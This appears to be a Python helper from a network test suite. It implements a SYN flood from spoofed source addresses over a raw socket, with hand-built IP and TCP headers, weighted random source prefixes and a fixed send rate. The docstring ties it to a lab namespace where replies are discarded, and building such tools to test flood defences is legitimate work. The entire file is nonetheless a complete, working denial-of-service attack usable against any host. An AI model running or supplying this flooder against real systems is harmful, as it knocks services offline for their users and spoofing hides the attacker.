#!/usr/bin/env python3
"""A SYN flood from spoofed sources through a raw socket: synflood.py DST
PORT SECONDS RATE PREFIX:WEIGHT... Each SYN comes from a random host in one
of the given /24 prefixes, picked by weight. Run it in the namespace the
SYNs leave from; the replies must go nowhere (the test routes them to a
neighbour that does not exist)."""
import random
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = struct.pack("!4s4sBBH", src, dst, 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64,
                     socket.IPPROTO_TCP, 0, src, dst)
    return ip + tcp  # the kernel fills the IP checksum (IP_HDRINCL)


def main():
    dst, port, seconds, rate = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
    prefixes, weights = [], []
    for arg in sys.argv[5:]:
        prefix, weight = arg.split(":")
        prefixes.append(prefix.rsplit(".", 1)[0])
        weights.append(int(weight))
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    dst_b = socket.inet_aton(dst)
    rnd = random.Random(7)
    sent, start = 0, time.monotonic()
    while True:
        elapsed = time.monotonic() - start
        if elapsed >= seconds:
            break
        if sent > elapsed * rate:
            time.sleep(0.001)
            continue
        prefix = rnd.choices(prefixes, weights)[0]
        src = socket.inet_aton("%s.%d" % (prefix, rnd.randint(1, 254)))
        raw.sendto(syn(src, dst_b, rnd.randint(1024, 65535), port, rnd.getrandbits(32)),
                   (dst, 0))
        sent += 1
    print("sent %d" % sent, flush=True)


if __name__ == "__main__":
    main()
